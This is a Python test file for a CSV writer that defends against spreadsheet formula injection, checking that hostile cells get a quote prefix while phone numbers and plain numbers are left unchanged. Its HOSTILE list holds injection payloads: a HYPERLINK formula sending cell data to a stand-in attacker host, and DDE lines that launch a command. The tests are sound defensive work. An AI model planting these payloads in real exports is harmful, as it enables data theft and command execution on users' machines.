"""The one CSV writer: formulas are neutralised, numbers and phone numbers left as they are."""

from __future__ import annotations

import csv
import io

import pytest

from directory import csv_safe

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
INERT = ["+44 20 7946 0000", "+44 (0)113 496 0000", "0113 496 0000", "-1.5491", "-7", "+3.2",
         "12", "Leeds", "", "a=b", "LS6 1AA"]  # fmt: skip


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_a_spreadsheet_would_run_is_written_as_text(value):
    assert csv_safe.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", INERT)
def test_numbers_phone_numbers_and_plain_text_are_left_alone(value):
    assert csv_safe.neutralise(value) == value


def test_the_writer_neutralises_every_cell_and_reads_back_the_same_text():
    out = io.StringIO()
    writer = csv_safe.writer(out)
    writer.writerow(["name", "phone", "longitude"])
    writer.writerows([[HOSTILE[0], INERT[0], -1.5491], [None, HOSTILE[3], 7]])

    rows = list(csv.reader(io.StringIO(out.getvalue())))

    assert rows == [
        ["name", "phone", "longitude"],
        ["'" + HOSTILE[0], "+44 20 7946 0000", "-1.5491"],
        ["", "'" + HOSTILE[3], "7"],
    ]
